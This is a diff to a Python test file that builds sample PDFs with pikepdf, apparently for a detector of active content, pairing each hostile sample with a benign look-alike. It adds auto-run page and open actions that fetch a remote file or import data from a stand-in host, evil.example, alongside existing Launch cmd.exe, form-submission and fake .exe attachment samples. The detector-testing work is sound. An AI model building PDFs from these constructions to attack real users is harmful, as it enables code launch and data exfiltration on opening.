@@ -74,6 +74,33 @@ def button(action: dict[str, object]) -> Callable[[Pdf], object]:
     return change
 
 
+def shown(action: dict[str, object], trigger: str = "/O") -> Callable[[Pdf], object]:
+    """A page that does this when it comes into view."""
+
+    def change(document: Pdf) -> None:
+        document.pages[0].AA = document.make_indirect(Dictionary({trigger: document.make_indirect(Dictionary(action))}))
+
+    return change
+
+
+def then(action: dict[str, object]) -> dict[str, object]:
+    """A harmless jump, and after it the action."""
+    return {"/S": Name.GoTo, "/D": Array([0, Name.Fit]), "/Next": Array([Dictionary(action)])}
+
+
+def opens_in_circles(document: Pdf) -> None:
+    """Jumps that follow each other for ever."""
+    jump = document.make_indirect(Dictionary({"/S": Name.GoTo, "/D": Array([0, Name.Fit])}))
+    jump.Next = Array([jump, jump])
+    document.Root.OpenAction = jump
+
+
+def opens_on_its_page(document: Pdf) -> None:
+    """As most programs write it: the first page, as a place. On it a link to the web."""
+    button(WEB)(document)
+    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
+
+
 def with_attachment(document: Pdf) -> None:
     document.attachments["rechnung.exe"] = b"MZ"
 
@@ -138,6 +165,7 @@ SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
 LAUNCH = {"/S": Name.Launch, "/F": "cmd.exe"}
 SUBMIT = {"/S": Name.SubmitForm, "/F": "https://evil.example"}
 FILM = {"/S": Name.Rendition}
+JUMP: dict[str, object] = {"/S": Name.GoTo, "/D": Array([0, Name.Fit])}
 WEB = {"/S": Name.URI, "/URI": "https://www.weissenburg.de"}
 PACKED = pikepdf.ObjectStreamMode.generate
 RAW: dict[str, object] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
@@ -160,6 +188,29 @@ CLASSES: list[tuple[str, str, Callable[[], bytes], str, Callable[[], bytes]]] = 
     ("a script written in disguise", "pdf", disguised, "file_active", lambda: many_objects(3)),
     ("a program behind a link", "pdf", lambda: pdf(button(LAUNCH)), "file_active", lambda: pdf(button(WEB))),
     ("a form that sends itself away", "pdf", lambda: pdf(button(SUBMIT)), "file_active", lambda: pdf(with_plain_form)),
+    ("a web page that opens with the file", "pdf", lambda: pdf(opens(WEB)), "file_active", lambda: pdf(opens(JUMP))),
+    (
+        "a web page that opens after a jump",
+        "pdf",
+        lambda: pdf(opens_numbered(then(WEB))),
+        "file_active",
+        lambda: pdf(opens_numbered(then(JUMP))),
+    ),
+    ("a web page that opens with a page", "pdf", lambda: pdf(shown(WEB)), "file_active", lambda: pdf(shown(JUMP))),
+    (
+        "another file that opens with a page",
+        "pdf",
+        lambda: pdf(shown({"/S": Name.GoToR, "/F": "//evil.example/x.pdf"})),
+        "file_active",
+        lambda: pdf(opens_in_circles),
+    ),
+    (
+        "values that load themselves",
+        "pdf",
+        lambda: pdf(shown({"/S": Name.ImportData, "/F": "//evil.example/x.fdf"}, "/PV")),
+        "file_active",
+        lambda: pdf(opens_on_its_page),
+    ),
     ("another file inside", "pdf", lambda: pdf(with_attachment), "file_active", lambda: pdf(pages=2)),
     ("a dynamic form", "pdf", lambda: pdf(with_xfa), "file_active", lambda: pdf(with_plain_form)),
     ("a film that plays", "pdf", lambda: pdf(button(FILM)), "file_active", lambda: pdf(button(WEB))),
